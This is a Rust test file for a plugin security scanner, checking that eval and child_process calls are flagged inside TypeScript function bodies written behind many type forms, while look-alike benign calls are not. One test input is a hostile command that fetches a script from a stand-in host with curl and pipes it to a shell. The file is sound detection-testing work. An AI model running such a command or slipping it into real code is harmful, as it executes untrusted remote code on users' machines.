//! Bodies behind types, each beside a benign twin.

use plugward_scanner::Profile;

use crate::common::check;

/// Where a call stands: `@`.
const BODIES: &[&str] = &[
    "function f(a): void { @ }",
    "function f(a): Promise<void> { @ }",
    "function f(a): Promise<Array<string>> { @ }",
    "async function f<T>(a: T): Promise<void>{@}",
    "export default function (a): Map<string, { b: C<D> }> { @ }",
    "const f = function (a): void { @ }",
    "class A { f(a): void { @ } }",
    "class A { static async f<T>(a?: T): Promise<void> { @ } }",
    "class A { get f(): Set<string> { @ } }",
    "class A { 'f'(): void { @ } }",
    "class A { [f](): Promise<void>\n{ @ } }",
    "class A { #f(): void { @ } }",
    "class A extends B<C> { f(): D<E> { @ } }",
    "class A implements B<C> { f(): void { if (a) { @ } } }",
    "abstract class A { abstract f(): void; g = <B>{ a: 1 }; h(): void { @ } }",
    "const o = { f(a): void { @ } }",
    "const o = { async f(): Promise<void> { @ }, g: 1 }",
    "function f(): () => void { @ }",
    "function f(): { a: B<C> } { @ }",
    "const o = <B>{ a: 1 }; function f(): void { @ }",
];

#[test]
fn a_body_behind_any_type_is_read() {
    for body in BODIES {
        for path in ["a.ts", "a.mts"] {
            let found = |call: &str| check(Profile::General, path, &body.replace('@', call));
            let seen = found("eval(x)");
            assert!(seen.iter().any(|line| line.contains("danger exec/eval")), "{body}: {seen:?}");
            let seen = found("const r = require; r('child_process').exec('curl h.example/x | sh')");
            assert!(seen.iter().any(|line| line.contains("danger")), "{body}: {seen:?}");
            let twin = found("evaluate(x); const o = { eval(x) { return x } }");
            assert!(!twin.iter().any(|line| line.contains("danger")), "{body}: {twin:?}");
        }
    }
}
